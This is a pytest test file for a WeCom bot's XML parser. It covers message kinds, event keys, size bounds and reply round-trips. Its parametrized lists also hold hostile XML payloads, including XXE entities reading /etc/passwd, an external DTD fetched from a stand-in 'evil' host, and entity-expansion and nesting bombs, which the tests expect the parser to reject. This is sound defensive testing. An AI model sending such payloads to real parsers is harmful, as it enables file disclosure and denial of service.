"""Plaintext and envelope XML: every message kind, string MsgIds, event keys, hostile XML."""

from __future__ import annotations

import pytest

from bot.wecom.messages import (
    MAX_DEPTH,
    MAX_ELEMENTS,
    MAX_TEXT,
    XmlError,
    cdata,
    parse_envelope,
    parse_message,
    parse_xml,
    text_reply_xml,
    update_button_xml,
)
from tests.fakewecom import CORP_ID, WeComPeer

peer = WeComPeer()


def xml(user: str, msg_type: str, create_time: int = 1700000000, **fields: str) -> str:
    return peer.message_xml(user, msg_type, fields, create_time=create_time)


def test_text_with_numeric_and_string_msgids() -> None:
    m = parse_message(
        xml("zhangsan", "text", Content="我的得分", MsgId="1456453720"), corp_id=CORP_ID
    )
    assert (m.sender, m.text, m.msg_id, m.key, m.agent_id) == (
        "zhangsan",
        "我的得分",
        "1456453720",
        "msg:1456453720",
        1000002,
    )
    assert m.created_at.timestamp() == 1700000000
    s = parse_message(xml("u", "text", Content="x", MsgId="CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw=="))
    assert s.msg_id == "CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw=="
    assert s.key == "msg:CAIQg/PKxgYY2sC9tpuAgAMg9/zKaw=="


def test_media_messages() -> None:
    img = parse_message(xml("u", "image", PicUrl="http://p", MediaId="MI", MsgId="1"))
    assert (img.msg_type, img.media_id, img.pic_url, img.text) == ("image", "MI", "http://p", "")
    voice = parse_message(xml("u", "voice", MediaId="MV", Format="amr", MsgId="2"))
    assert (voice.media_id, voice.media_format) == ("MV", "amr")
    video = parse_message(xml("u", "video", MediaId="MD", ThumbMediaId="TH", MsgId="3"))
    assert (video.media_id, video.thumb_media_id) == ("MD", "TH")
    f = parse_message(xml("u", "file", MediaId="MF", FileName="自查报告.pdf", MsgId="4"))
    assert (f.media_id, f.file_name) == ("MF", "自查报告.pdf")


def test_location_and_link() -> None:
    loc = parse_message(
        xml(
            "u",
            "location",
            Location_X="28.65",
            Location_Y="121.42",
            Scale="15",
            Label="台州",
            MsgId="5",
        )
    )
    assert loc.location is not None
    assert (
        loc.location.latitude,
        loc.location.longitude,
        loc.location.scale,
        loc.location.label,
    ) == (
        28.65,
        121.42,
        15,
        "台州",
    )
    link = parse_message(
        xml(
            "u", "link", Title="通知", Description="d", Url="http://x", PicUrl="http://p", MsgId="6"
        )
    )
    assert link.link is not None and link.link.title == "通知" and link.link.url == "http://x"


def test_events() -> None:
    enter = parse_message(xml("u", "event", Event="enter_agent", EventKey=""))
    assert enter.is_event and enter.event == "enter_agent" and enter.key.startswith("evt:u:")
    click = parse_message(xml("u", "event", Event="click", EventKey="MY_SCORE"))
    assert (click.event, click.event_key) == ("click", "MY_SCORE")
    selected = (
        "<SelectedItem><QuestionKey><![CDATA[q1]]></QuestionKey><OptionIds>"
        "<OptionId><![CDATA[a]]></OptionId><OptionId><![CDATA[b]]></OptionId></OptionIds>"
        "</SelectedItem>"
    )
    card = parse_message(
        xml(
            "u",
            "event",
            Event="template_card_event",
            EventKey="accept",
            TaskId="task-1",
            CardType="vote_interaction",
            ResponseCode="RC1",
            SelectedItems=selected,
        )
    )
    assert (card.event, card.event_key, card.task_id, card.card_type, card.response_code) == (
        "template_card_event",
        "accept",
        "task-1",
        "vote_interaction",
        "RC1",
    )
    assert card.selected_items[0].question_key == "q1"
    assert card.selected_items[0].option_ids == ("a", "b")


def test_event_keys_are_stable_for_redeliveries_and_distinct_otherwise() -> None:
    def key(**kw: str) -> str:
        base = {
            "Event": "template_card_event",
            "EventKey": "ok",
            "TaskId": "t1",
            "ResponseCode": "R1",
        }
        return parse_message(xml("u", "event", **{**base, **kw})).key

    same = key()
    assert key() == same
    spaced = xml(
        "u", "event", Event="template_card_event", EventKey="ok", TaskId="t1", ResponseCode="R1"
    ).replace("><", ">\n  <")
    assert parse_message(spaced).key == same
    others = {key(EventKey="no"), key(TaskId="t2"), key(ResponseCode="R2"), same}
    assert len(others) == 4
    a = parse_message(xml("u", "event", Event="enter_agent")).key
    b = parse_message(xml("v", "event", Event="enter_agent")).key
    c = parse_message(xml("u", "event", Event="enter_agent", create_time=1700000001)).key
    assert len({a, b, c}) == 3
    assert all(len(k) <= 200 for k in (a, same))


def test_keys_fit_the_inbound_table() -> None:
    long_id = "A" * 500
    key = parse_message(xml("u", "text", Content="x", MsgId=long_id)).key
    assert key.startswith("msg#") and len(key) <= 200
    assert key != parse_message(xml("u", "text", Content="x", MsgId=long_id + "B")).key
    event = parse_message(xml("u" * 64, "event", Event="e" * 100, EventKey="k" * 1024)).key
    assert len(event) <= 200
    with pytest.raises(XmlError):
        parse_message(xml("u" * 65, "text", Content="x", MsgId="1"))


def test_refuses_a_message_for_another_corp() -> None:
    with pytest.raises(XmlError):
        parse_message(xml("u", "text", Content="x", MsgId="1"), corp_id="wwother")


@pytest.mark.parametrize(
    "bad",
    [
        b"",
        b"<xml>",
        b"not xml at all",
        b"<root><Encrypt>x</Encrypt></root>",
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaa">]><xml><Encrypt>&a;</Encrypt></xml>',
        b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Encrypt>&x;</Encrypt></xml>',
        b'<!DOCTYPE xml [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><xml><E>&b;</E></xml>',
        b"<!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
        b"<xml>" + b"<a>" * 50 + b"</a>" * 50 + b"<Encrypt>x</Encrypt></xml>",
        b"<xml>" + b"<a/>" * (MAX_ELEMENTS + 1) + b"<Encrypt>x</Encrypt></xml>",
        b"<xml><ToUserName>x</ToUserName></xml>",  # no Encrypt
    ],
)
def test_hostile_or_broken_envelopes(bad: bytes) -> None:
    with pytest.raises(XmlError):
        parse_envelope(bad)


@pytest.mark.parametrize("as_text", [False, True])
def test_bounds_hold_exactly_at_their_edges(as_text: bool) -> None:
    """The bounds, on flat documents (the quick check) and nested ones (the walk): at each
    bound a document parses, one past it is refused."""

    def doc(inner: str) -> bytes | str:
        text = f"<xml>{inner}</xml>"
        return text if as_text else text.encode()

    def nested(depth: int) -> str:  # the root counts as one level
        return "<a>" * (depth - 1) + "</a>" * (depth - 1)

    fine = [
        "<a/>" * (MAX_ELEMENTS - 1),  # with the root, MAX_ELEMENTS elements
        "<a>" + "文" * MAX_TEXT + "</a>",
        nested(MAX_DEPTH),
        "<b>" + "<a/>" * (MAX_ELEMENTS - 2) + "</b>",
    ]
    for inner in fine:
        assert parse_xml(doc(inner)).tag == "xml"
    too_much = [
        "<a/>" * MAX_ELEMENTS,
        "<a>" + "x" * (MAX_TEXT + 1) + "</a>",
        "<a>" + "文" * (MAX_TEXT + 1) + "</a>",
        nested(MAX_DEPTH + 1),
        "<b>" + "<a/>" * (MAX_ELEMENTS - 1) + "</b>",
    ]
    for inner in too_much:
        with pytest.raises(XmlError):
            parse_xml(doc(inner))


HOSTILE = [
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaa">]><xml><Encrypt>&a;</Encrypt></xml>',
    b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Encrypt>&x;</Encrypt></xml>',
    b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><xml><Encrypt>x</Encrypt></xml>',
    b'<!DOCTYPE xml SYSTEM "http://evil/x.dtd"><xml><Encrypt>x</Encrypt></xml>',
    b"\xef\xbb\xbf <!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
    b"<!-- a comment first --><!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
    b'<?xml version="1.0"?>\n<!DOCTYPE xml [\n<!ENTITY a "x">]>\n<xml><Encrypt>&a;</Encrypt></xml>',
    b"<xml><Encrypt>&undefined;</Encrypt></xml>",
    b"<xml><Encrypt>x</Encrypt></xml><!DOCTYPE xml>",
]


@pytest.mark.parametrize("bad", HOSTILE)
def test_what_defusedxml_refuses_is_refused(bad: bytes) -> None:
    """defusedxml, the library this parser replaced, is the oracle: whatever it refuses (a DTD,
    an entity, an external reference), parse_xml refuses too, as bytes and as text."""
    import defusedxml.ElementTree as SafeET
    from defusedxml import DefusedXmlException

    with pytest.raises((DefusedXmlException, SafeET.ParseError)):
        SafeET.fromstring(bad, forbid_dtd=True, forbid_entities=True, forbid_external=True)
    with pytest.raises(XmlError):
        parse_xml(bad)
    with pytest.raises(XmlError):
        parse_xml(bad.decode("utf-8"))


@pytest.mark.parametrize(
    "good",
    [
        b"<xml><Encrypt>x</Encrypt></xml>",
        b'<?xml version="1.0" encoding="utf-8"?>\n<xml><Encrypt>x</Encrypt></xml>',
        b"\xef\xbb\xbf<xml><Encrypt>x</Encrypt></xml>",
        b"\r\n  <xml>\n<Encrypt>x</Encrypt></xml>\n",
        b"<xml><Encrypt><![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]>&a;]]></Encrypt></xml>",
        b"<xml><Encrypt>&lt;&amp;&#x4e2d;&#25991;</Encrypt></xml>",
    ],
)
def test_plain_documents_parse_as_defusedxml_parses_them(good: bytes) -> None:
    import defusedxml.ElementTree as SafeET

    expected = SafeET.fromstring(good, forbid_dtd=True).findtext("Encrypt")
    assert parse_xml(good).findtext("Encrypt") == expected
    assert parse_xml(good.decode("utf-8")).findtext("Encrypt") == expected


def test_a_message_that_quotes_a_dtd_is_taken_as_written() -> None:
    text = '我在材料里引用了 <!DOCTYPE lolz [<!ENTITY lol "lol">]>&lol; 原样保存'
    m = parse_message(xml("zhangsan", "text", Content=text, MsgId="1"), corp_id=CORP_ID)
    assert m.text == text


def test_envelope_fields() -> None:
    env = parse_envelope(peer.envelope("ENC").encode())
    assert (env.encrypt, env.to_user, env.agent_id) == ("ENC", CORP_ID, "1000002")


def test_message_needs_sender_and_type() -> None:
    with pytest.raises(XmlError):
        parse_message("<xml><MsgType>text</MsgType></xml>")
    with pytest.raises(XmlError):
        parse_message(xml("u", "location", Location_X="north", Location_Y="1", MsgId="1"))


def test_reply_xml_round_trips_awkward_text() -> None:
    text = "a]]>b<c>&d 中文"
    root = parse_xml(text_reply_xml("zhangsan", CORP_ID, 1, text).encode())
    assert root.findtext("Content") == text
    assert root.findtext("ToUserName") == "zhangsan"
    assert root.findtext("FromUserName") == CORP_ID
    btn = parse_xml(update_button_xml("u", CORP_ID, 1, "已处理").encode())
    assert btn.findtext("MsgType") == "update_button"
    assert btn.findtext("Button/ReplaceName") == "已处理"
    assert cdata("]]>") == "<![CDATA[]]]]><![CDATA[>]]>"
